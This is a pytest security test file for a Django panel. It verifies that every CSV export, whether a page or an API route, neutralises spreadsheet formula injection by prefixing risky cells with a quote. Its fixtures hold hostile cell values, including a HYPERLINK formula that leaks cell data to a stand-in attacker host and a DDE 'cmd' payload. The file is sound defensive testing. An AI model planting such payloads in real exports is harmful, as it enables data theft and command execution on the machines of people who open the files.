"""Every CSV the panel produces opens in a spreadsheet as data: a text cell that would start
a formula (`=`, `+`, `-`, `@`, tab, carriage return) begins with `'`; numbers stay numbers.

The CSVs are found, not listed by hand: every function of the project that answers
`text/csv` (a page's view, an API operation), cross-checked with the URL patterns ending in
`.csv` and the API schema's `text/csv` answers. Each must have an entry in `EXPORTS` below,
which fetches it with hostile text in every column a person can write: a job's results and
a comparison (the recipe's name and model id, a host's name, the image, the scenario
names), the gateway's usage rows (a username, a key's name, the model, host, endpoint and
error) and the audit log (who, what it was about). The hostile values are set straight in
the database, as a hostile import or a compromised writer would leave them. A new CSV
export fails `test_every_csv_export_is_known_and_checked` until it is added here, and no
module may write CSV but through `apps/core/csvsafe.py`.
"""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from django.utils import timezone

from apps.audit import services as audit
from apps.benchmarks.models import Result
from apps.core.csvsafe import csv_text, safe_cell
from apps.gateway.keys import key_create
from apps.gateway.models import UsageRecord
from tests.conftest import ROOT
from tests.security.urlwalk import api_name, api_operations, routes

pytestmark = pytest.mark.django_db

HOSTILE = {
    "recipe": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "model_id": "-2+3",
    "host": "+1",
    "image": "\t=cmd|' /C calc'!A0",
    "scenario_1": "@SUM(1)",
    "scenario_2": "\r=1+1",
}
# A username is what a person may choose (Django allows @ . + - _): "-2+3" is a valid one.
HOSTILE_USERNAME = "-2+3"
HOSTILE_USAGE = {
    "key": '=HYPERLINK("http://evil.example/","key")',
    "model": "+1",
    "host": "@SUM(1)",
    "endpoint": "-1",
    "error": "\t=cmd|' /C calc'!A0",
}
CODE_DIRS = ("apps", "sparkpanel")


def test_safe_cell_escapes_formula_text_and_leaves_numbers():
    for text in ("=1", "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "-1.5"):
        assert safe_cell(text) == "'" + text
    for value in ("plain", "a=b", "", " =1", 0, -1.5, -3, 2.0, True, None):
        assert safe_cell(value) == value
    lines = csv_text(["a", "=b"], [{"a": -1.5, "=b": "=1"}, {"a": "x"}]).splitlines()
    assert lines == ["a,'=b", "-1.5,'=1", "x,"]


# --- finding the exports --------------------------------------------------------------------


def _code_files() -> list[Path]:
    return [
        path
        for top in CODE_DIRS
        for path in sorted((ROOT / top).rglob("*.py"))
        if "migrations" not in path.parts
    ]


def _module(path: Path) -> str:
    return ".".join(path.relative_to(ROOT).with_suffix("").parts)


def csv_functions() -> set[str]:
    """`module.function` of every function (decorators included) that names `text/csv`:
    each is a view or an API operation that answers a CSV."""
    found = set()
    for path in _code_files():
        tree = ast.parse(path.read_text(), str(path))
        for node in ast.walk(tree):
            if not isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
                continue
            if any(
                isinstance(n, ast.Constant) and isinstance(n.value, str) and "text/csv" in n.value
                for n in ast.walk(node)
            ):
                found.add(f"{_module(path)}.{node.name}")
    return found


def _qualname(callback) -> str:
    view = getattr(callback, "view_class", None) or callback
    while hasattr(view, "__wrapped__"):
        view = view.__wrapped__
    return f"{view.__module__}.{view.__name__}"


def _writes_csv(node: ast.AST) -> bool:
    """csv.writer / csv.DictWriter, any .writerow(s), or `from csv import …`."""
    if isinstance(node, ast.ImportFrom):
        return node.module == "csv"
    if not isinstance(node, ast.Attribute):
        return False
    if node.attr in ("writerow", "writerows"):
        return True
    return node.attr in ("writer", "DictWriter") and getattr(node.value, "id", "") == "csv"


def test_no_module_writes_csv_but_through_csvsafe():
    """A CSV written with the csv module directly would skip the escaping."""
    writers = {
        f"{path.relative_to(ROOT)}:{node.lineno}"
        for path in _code_files()
        if path != ROOT / "apps/core/csvsafe.py"
        for node in ast.walk(ast.parse(path.read_text(), str(path)))
        if _writes_csv(node)
    }
    assert not writers, f"CSV written outside apps/core/csvsafe.py: {sorted(writers)}"


# --- hostile rows -------------------------------------------------------------------------


@pytest.fixture
def hostile_jobs(world):
    recipe, host = world["recipe"], world["host"]
    type(recipe).objects.filter(pk=recipe.pk).update(
        name=HOSTILE["recipe"], model_id=HOSTILE["model_id"]
    )
    type(host).objects.filter(pk=host.pk).update(name=HOSTILE["host"])
    jobs = world["done_jobs"]
    for job in jobs:
        job.context = {**job.context, "image": HOSTILE["image"]}
        job.save(update_fields=["context"])
        first, second = job.results.order_by("concurrency")
        first.scenario, second.scenario = HOSTILE["scenario_1"], HOSTILE["scenario_2"]
        # A computed negative number: it must stay a number a spreadsheet can sum.
        first.ttft_p50_s = -0.0015
        Result.objects.bulk_update([first, second], ["scenario", "ttft_p50_s"])
    return jobs


@pytest.fixture
def hostile_usage(world, member):
    """A member named "-2+3" with a key named like a formula, and one usage row of theirs
    whose model, host, endpoint and error are formulas too; creating the key leaves the
    audit row (actor "-2+3", target "-2+3 · =HYPERLINK…")."""
    get_user_model().objects.filter(pk=member.pk).update(username=HOSTILE_USERNAME)
    member.refresh_from_db()
    key, _clear = key_create(user=member, name=HOSTILE_USAGE["key"])
    audit.record("key.revoke", key, user=member, label=HOSTILE_USAGE["key"],
                 message=HOSTILE_USAGE["error"])  # fmt: skip
    UsageRecord.objects.create(
        request_id="hostile-1", at=timezone.now() - timedelta(minutes=5), user=member, key=key,
        endpoint=HOSTILE_USAGE["endpoint"], model=HOSTILE_USAGE["model"],
        host=HOSTILE_USAGE["host"], prompt_tokens=12, completion_tokens=3, ttft_ms=41.0,
        duration_ms=120.0, status=500, error=HOSTILE_USAGE["error"],
    )  # fmt: skip
    return member


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _no_formula(rows: list[dict], where: str) -> None:
    assert rows, f"{where}: no rows"
    cells = [value for row in rows for value in [*row.keys(), *row.values()]]
    formulas = [c for c in cells if c and c[0] in "=+-@\t\r" and not _number(c)]
    assert not formulas, f"{where}: cells a spreadsheet would run: {formulas}"


def _check_jobs(rows: list[dict], where: str) -> None:
    for row in rows:
        assert row["recipe"] == "'" + HOSTILE["recipe"], where
        assert row["model_id"] == "'" + HOSTILE["model_id"], where
        assert row["host"] == "'" + HOSTILE["host"], where
        assert row["image"] == "'" + HOSTILE["image"], where
    scenarios = {row["scenario"] for row in rows}
    assert scenarios == {"'" + HOSTILE["scenario_1"], "'" + HOSTILE["scenario_2"]}, where
    # Numbers stay numbers: the negative one included (it was computed, not typed).
    low = [row for row in rows if row["max_concurrency"] == "1"]
    assert {row["median_ttft_ms"] for row in low} == {"-1.5"}, where
    assert all(float(row["output_throughput"]) == 22.5 for row in rows), where


def _check_usage(rows: list[dict], where: str) -> None:
    [row] = [r for r in rows if r["key"] == "'" + HOSTILE_USAGE["key"]]
    assert row["user"] == "'" + HOSTILE_USERNAME, where
    for column in ("model", "host", "endpoint", "error"):
        assert row[column] == "'" + HOSTILE_USAGE[column], (where, column, row[column])
    assert (row["prompt_tokens"], row["completion_tokens"], row["status"]) == ("12", "3", "500")


def _check_audit(rows: list[dict], where: str) -> None:
    mine = [r for r in rows if r["actor"] == "'" + HOSTILE_USERNAME]
    assert {r["action"] for r in mine} >= {"key.create", "key.revoke"}, where
    targets = {r["target"] for r in mine}
    assert "'" + HOSTILE_USAGE["key"] in targets, (where, targets)
    assert "'" + f"{HOSTILE_USERNAME} · {HOSTILE_USAGE['key']}" in targets, (where, targets)
    assert "'" + HOSTILE_USAGE["error"] in {r["message"] for r in mine}, where


def _jobs_query(world) -> str:
    a, b = world["done_jobs"]
    return f"{a.pk},{b.pk}"


# function → (page or API, its URL as the admin asks for it, what its rows must say)
Export = tuple[str, Callable[[dict], str], Callable[[list[dict], str], None]]
EXPORTS: dict[str, Export] = {
    "apps.benchmarks.views.job_export": (
        "page", lambda w: reverse("benchmark-csv", args=[w["done_jobs"][0].pk]), _check_jobs),
    "apps.benchmarks.views.compare": (
        "page", lambda w: reverse("benchmark-compare") + f"?jobs={_jobs_query(w)}&format=csv",
        _check_jobs),
    "apps.api.routes.jobs.job_results_csv": (
        "api", lambda w: f"/jobs/{w['done_jobs'][0].pk}/results.csv", _check_jobs),
    "apps.api.routes.jobs.compare_jobs": (
        "api", lambda w: f"/jobs/compare?ids={_jobs_query(w)}&format=csv", _check_jobs),
    "apps.gateway.views.usage_csv": ("page", lambda w: reverse("usage-csv"), _check_usage),
    "apps.api.routes.gateway.usage_csv": ("api", lambda w: "/usage.csv?user=all", _check_usage),
    "apps.overview.audit_views.audit_csv": ("page", lambda w: reverse("audit-csv"), _check_audit),
}  # fmt: skip


def test_every_csv_export_is_known_and_checked():
    found = csv_functions()
    assert found == set(EXPORTS), (
        f"CSV exports not checked here: {sorted(found - set(EXPORTS))} (add each to EXPORTS "
        f"with hostile rows); entries that answer no CSV any more: {sorted(set(EXPORTS) - found)}"
    )
    # The discovery agrees with the URLs and the schema: every pattern ending in .csv and
    # every operation documented as text/csv is one of the functions found.
    for route in routes():
        if ".csv" in route.template and not route.is_api:
            assert _qualname(route.callback) in found, f"{route}: its view names no text/csv"
    documented = {
        api_name(op)
        for _method, path, op in api_operations()
        if path.endswith(".csv") or "text/csv" in str(op.get("responses", {}))
    }
    assert documented, "the API documents no CSV answer any more"
    api_found = {name.rsplit(".", 1)[1] for name in found if name.startswith("apps.api.")}
    assert documented == api_found, (documented, api_found)


@pytest.mark.parametrize("function", sorted(EXPORTS))
def test_every_csv_export_neutralises_formula_cells(
    function, client_as, api_as, admin_user, world, hostile_jobs, hostile_usage
):
    door, url, check = EXPORTS[function]
    where = f"{function} ({door})"
    if door == "page":
        answer = client_as(admin_user).get(url(world))
    else:
        answer = api_as(admin_user).get(url(world))
    assert answer.status_code == 200, (where, answer.status_code, answer.content[:300])
    assert answer["Content-Type"].startswith("text/csv"), where
    rows = _rows(answer.content.decode())
    _no_formula(rows, where)
    check(rows, where)
